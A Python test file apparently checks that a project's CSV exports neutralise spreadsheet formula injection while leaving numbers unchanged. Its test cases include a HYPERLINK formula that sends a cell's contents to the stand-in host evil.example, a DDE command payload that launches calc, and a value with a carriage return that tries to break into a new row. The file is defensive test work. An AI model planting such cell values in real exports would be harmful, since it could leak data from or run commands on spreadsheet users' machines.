"""Every CSV we write neutralises cells a spreadsheet would run as formulas (OWASP's rule), and
keeps numbers, negative ones included, as numbers."""

from __future__ import annotations

import io
import zipfile

import pandas as pd
import pytest

from data.deck import Deck, Slide
from data.repository import Repository
from data.safe_csv import looks_like_formula, to_csv
from exports import deck as deck_export
from views import VIEWS
from web.downloads import csv_response

# (cell, as written): the same cases as the member list's export in tests/browser/test_map.py
CASES = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'=HYPERLINK"),
    ("+SUM(A1)", "'+SUM(A1)"),
    ("-cmd|' /C calc'!A0", "'-cmd"),
    ("@x", "'@x"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-2.5", "-2.5"),
    ("+3", "+3"),
    ("-1e5", "-1e5"),
    ("Cali", "Cali"),
    ("", ""),
]


@pytest.mark.parametrize(("cell", "written"), CASES)
def test_a_text_cell_is_neutralised_unless_it_is_a_number(cell: str, written: str) -> None:
    text = to_csv(pd.DataFrame({"name": [cell]}))
    value = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["name"][0]
    assert value.startswith(written)
    assert looks_like_formula(cell) == written.startswith("'")


def test_numbers_stay_numbers_and_column_names_are_checked_too() -> None:
    frame = pd.DataFrame({"=x": [-1.5, 2.0], "when": pd.to_datetime(["2020-01-02"] * 2)})
    text = to_csv(frame, float_format="%.6g", date_format="%Y-%m-%d")
    assert text.split("\r\n") == ["'=x,when", "-1.5,2020-01-02", "2,2020-01-02", ""]


def test_the_download_route_writes_formulas_as_text() -> None:
    frame = pd.DataFrame({"city": ["=1+1", "Cali"], "value": [-3.0, 4.0]})
    body = csv_response(frame, "trends").get_data(as_text=True)
    assert body.split("\r\n") == ["city,value", "'=1+1,-3", "Cali,4", ""]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    text = to_csv(pd.DataFrame({"name": ["x\r=1+1"], "n": [1]}))
    assert text == 'name,n\r\n"x\r=1+1",1\r\n'


def test_the_deck_zip_writes_formulas_as_text(
    repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = "/trends?cities=alpha"
    monkeypatch.setattr(
        type(VIEWS), "table", lambda _self, _repo, _url: pd.DataFrame({"name": ["@evil"]})
    )
    chart = VIEWS.chart(repo, url)
    rendered = [deck_export.Rendered(1, Slide(url, "T"), chart, b"png")]
    archive = zipfile.ZipFile(io.BytesIO(deck_export.zip_bytes(repo, Deck(), rendered)))
    (csv_name,) = [n for n in archive.namelist() if n.endswith(".csv")]
    assert archive.read(csv_name).decode().split("\r\n") == ["name", "'@evil", ""]
